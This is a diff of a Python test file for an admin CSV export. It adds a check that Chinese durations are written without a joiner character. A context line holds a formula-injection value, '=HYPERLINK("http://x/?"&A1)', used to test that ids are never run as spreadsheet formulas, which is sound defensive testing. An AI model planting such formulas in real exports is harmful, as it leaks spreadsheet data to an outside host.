@@ -107,6 +107,17 @@ def test_an_audited_actions_runs_export(viewer, make_run):
     assert sorted(row[-1] for row in rows[1:]) == ["(no longer in the table)", "failed", "failed"]
 
 
+def test_an_audit_export_in_chinese_writes_its_durations_as_they_read(viewer, make_run):
+    """The pages join a unit's ideographs (never "小 / 时" at a line's end); a CSV cell must
+    not carry the joiner: a spreadsheet's search for "小时" missed it (the reviewer)."""
+    make_run(started_ago=80 * MIN)
+    fail_stuck_runs(actor=Actor.SCHEDULE)
+    action = MaintenanceAction.objects.get()
+    url = f"/admin/runs/maintenanceaction/{action.pk}/export/"
+    rows = read_csv(viewer.get(url, HTTP_ACCEPT_LANGUAGE="zh-hans"))
+    assert "1\xa0小时" in rows[1][3] and "\u2060" not in rows[1][3], rows[1][3]
+
+
 def test_ids_are_never_run_as_formulas_either(viewer):
     """The backend's ids are text it chose: a spreadsheet must not run them as formulas."""
     project = TenderProject.objects.create(id='=HYPERLINK("http://x/?"&A1)', kb_id="kb", name="p")
